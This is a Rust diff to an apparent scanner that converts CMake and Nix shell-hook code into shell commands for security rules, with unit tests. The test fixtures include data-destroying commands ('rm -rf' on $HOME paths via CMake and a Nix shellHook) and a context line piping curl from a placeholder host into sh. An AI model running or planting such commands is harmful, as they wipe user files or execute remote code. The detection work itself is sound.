@@ -339,6 +339,112 @@ pub fn pdm_script(text: &str, target: &str) -> Option<Vec<String>> {
 /// Each service of a Compose file as the `docker run` it amounts to: image, command,
 /// `privileged`, `pid`/`network_mode: host`, `cap_add`, `volumes`, `devices` — what the
 /// container rules judge.
+/// What configuring a CMake project runs, as shell: `execute_process(COMMAND a b …)` and
+/// `add_custom_command`/`add_custom_target(… COMMAND a b …)` as `a b`, `file(REMOVE_RECURSE
+/// p…)` as `rm -rf p…`, `file(REMOVE p…)` as `rm -f p…`. `$ENV{X}` reads as `$X`; other
+/// variables (`${d}`) stay computed.
+pub fn cmake_commands(text: &str) -> Vec<String> {
+    let norm = |w: &str| {
+        let w = w.trim_matches('"');
+        let mut out = String::new();
+        let mut rest = w;
+        while let Some(i) = rest.find("$ENV{") {
+            out.push_str(rest.get(..i).unwrap_or(""));
+            let after = rest.get(i + 5..).unwrap_or("");
+            let end = after.find('}').unwrap_or(after.len());
+            out.push('$');
+            out.push_str(after.get(..end).unwrap_or(""));
+            rest = after.get(end + 1..).unwrap_or("");
+        }
+        out.push_str(rest);
+        // `${d}` is shell syntax as well: left as it is (computed).
+        if out.contains(char::is_whitespace) {
+            format!("\"{out}\"")
+        } else {
+            out
+        }
+    };
+    let mut cmds = Vec::new();
+    let lower = text.to_ascii_lowercase();
+    for (call, prefix) in [
+        ("execute_process(", None),
+        ("add_custom_command(", None),
+        ("add_custom_target(", None),
+        ("file(", Some(())),
+    ] {
+        for (i, _) in lower.match_indices(call) {
+            let body_start = i + call.len();
+            let Some(body) = text.get(body_start..) else {
+                continue;
+            };
+            let end = body.find(')').unwrap_or(body.len());
+            let body = body.get(..end).unwrap_or("");
+            let words: Vec<&str> = body.split_whitespace().collect();
+            if prefix.is_some() {
+                match words.first() {
+                    Some(&"REMOVE_RECURSE") => cmds.push(format!(
+                        "rm -rf {}",
+                        words
+                            .iter()
+                            .skip(1)
+                            .map(|w| norm(w))
+                            .collect::<Vec<_>>()
+                            .join(" ")
+                    )),
+                    Some(&"REMOVE") => cmds.push(format!(
+                        "rm -f {}",
+                        words
+                            .iter()
+                            .skip(1)
+                            .map(|w| norm(w))
+                            .collect::<Vec<_>>()
+                            .join(" ")
+                    )),
+                    _ => {}
+                }
+                continue;
+            }
+            // Each `COMMAND` up to the next keyword.
+            let mut cur: Option<Vec<String>> = None;
+            for w in words {
+                let keyword = w.chars().all(|c| c.is_ascii_uppercase() || c == '_') && w.len() > 2;
+                if w == "COMMAND" {
+                    if let Some(c) = cur.take().filter(|c| !c.is_empty()) {
+                        cmds.push(c.join(" "));
+                    }
+                    cur = Some(Vec::new());
+                } else if keyword {
+                    if let Some(c) = cur.take().filter(|c| !c.is_empty()) {
+                        cmds.push(c.join(" "));
+                    }
+                } else if let Some(c) = cur.as_mut() {
+                    c.push(norm(w));
+                }
+            }
+            if let Some(c) = cur.filter(|c| !c.is_empty()) {
+                cmds.push(c.join(" "));
+            }
+        }
+    }
+    cmds
+}
+
+/// The `shellHook = '' … '';` of a Nix shell (`flake.nix`, `shell.nix`): run when the shell
+/// starts.
+pub fn nix_shell_hooks(text: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    for (i, _) in text.match_indices("shellHook") {
+        let Some(rest) = text.get(i..) else { continue };
+        let Some(open) = rest.find("''") else {
+            continue;
+        };
+        let body = rest.get(open + 2..).unwrap_or("");
+        let end = body.find("''").unwrap_or(body.len());
+        out.push(body.get(..end).unwrap_or("").to_owned());
+    }
+    out
+}
+
 pub fn compose_runs(text: &str) -> Vec<String> {
     let services = yaml_entries(text, "services:");
     services
@@ -490,6 +596,21 @@ mod tests {
             Some(vec!["curl -s https://x.example/i | sh".into()])
         );
         assert_eq!(pdm_script(p, "nope"), None);
+    }
+
+    #[test]
+    fn cmake_and_nix_shell_code_as_shell() {
+        let cm = "project(x)\nfile(REMOVE_RECURSE \"$ENV{HOME}/src\")\nexecute_process(COMMAND git describe --tags OUTPUT_VARIABLE v)\n";
+        let got = cmake_commands(cm);
+        assert!(
+            got.iter()
+                .any(|c| c.starts_with("rm -rf") && c.contains("$HOME/src")),
+            "{got:?}"
+        );
+        assert!(got.iter().any(|c| c == "git describe --tags"), "{got:?}");
+        let nix = "{ devShells.default = pkgs.mkShell {\n  shellHook = ''\n    echo hi\n    rm -rf ~/x\n  '';\n}; }";
+        let got = nix_shell_hooks(nix);
+        assert!(got.iter().any(|c| c.contains("rm -rf ~/x")), "{got:?}");
     }
 
     #[test]
